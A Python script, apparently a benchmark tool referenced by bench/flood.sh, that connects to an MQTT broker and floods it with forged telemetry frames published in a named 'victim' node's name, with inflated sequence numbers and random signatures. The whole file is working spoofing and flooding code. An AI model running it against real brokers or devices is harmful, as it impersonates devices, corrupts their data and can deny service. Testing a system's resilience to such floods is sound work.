# Forged telemetry in one node's name, as fast as asked: see bench/flood.sh.
import socket, sys, time, os
host, port, node, rate, secs = sys.argv[1], int(sys.argv[2]), sys.argv[3], int(sys.argv[4]), float(sys.argv[5])
def varint(n):
    out=b''
    while True:
        b=n&0x7f; n>>=7
        if n: out+=bytes([b|0x80])
        else: return out+bytes([b])
def s(x): return len(x).to_bytes(2,'big')+x
cid=b'flooder'
vh=s(b'MQTT')+bytes([4,0x02])+(60).to_bytes(2,'big')
pl=s(cid)
sock=socket.create_connection((host,port)); sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
sock.sendall(bytes([0x10])+varint(len(vh+pl))+vh+pl); sock.recv(4)
# a forged telemetry envelope in the victim's name: version 4, Telemetry, node, seq, boot, empty sample, random signature
frame=bytes([4,1])+bytes.fromhex(node)+varint(10**12)+varint(1)+bytes(5)+bytes([0,0,0,0,0])+os.urandom(64)
topic=f'ambient/v1/nodes/{node}/telemetry'.encode()
body=s(topic)+frame
pkt=bytes([0x30])+varint(len(body))+body
batch=pkt*200
sent=0; t0=time.time()
while time.time()-t0<secs:
    sock.sendall(batch); sent+=200
    ahead=sent/rate-(time.time()-t0)
    if ahead>0: time.sleep(ahead)
el=time.time()-t0
print(f"flood: {sent} frames in {el:.1f} s = {sent/el:.0f}/s", flush=True)
